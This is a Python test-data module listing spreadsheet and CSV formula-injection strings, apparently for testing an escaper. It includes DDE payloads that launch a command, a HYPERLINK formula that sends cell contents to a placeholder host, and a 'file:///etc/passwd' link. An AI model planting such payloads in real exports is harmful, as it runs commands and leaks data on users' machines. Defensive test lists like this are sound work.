"""Texts that a spreadsheet, a reader of CSV or a reader of workbooks could take for something else: one table for both formats."""

from __future__ import annotations

# How a formula can begin, in every width, and behind what a spreadsheet takes away.
FORMULA_STARTS = "=+-@＝＋－＠"
INJECTED = (
    "=HYPERLINK(1)",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 1632 960000",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "＝1",
    "  =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "safe; =1+1",
    "one\n=cmd",
    'a","=1',
    "%0A=1",
    "{=1}",
    "'=1",
)
# What is no text any more where a cell guesses: numbers, dates, truth, errors, links, and the escapes of a workbook.
GUESSED = (
    "007",
    "1e5",
    "3-4",
    "2026-11-22",
    "22/11/2026",
    "12:30",
    "TRUE",
    "#REF!",
    "#N/A",
    "http://x.example/",
    "mailto:x@example.org",
    "file:///etc/passwd",
    "_x0041_",
    "_x000D_=1",
    "<t>&lt;</t>]]>",
    "&#x3d;1",
    "<f>1+1</f>",
)
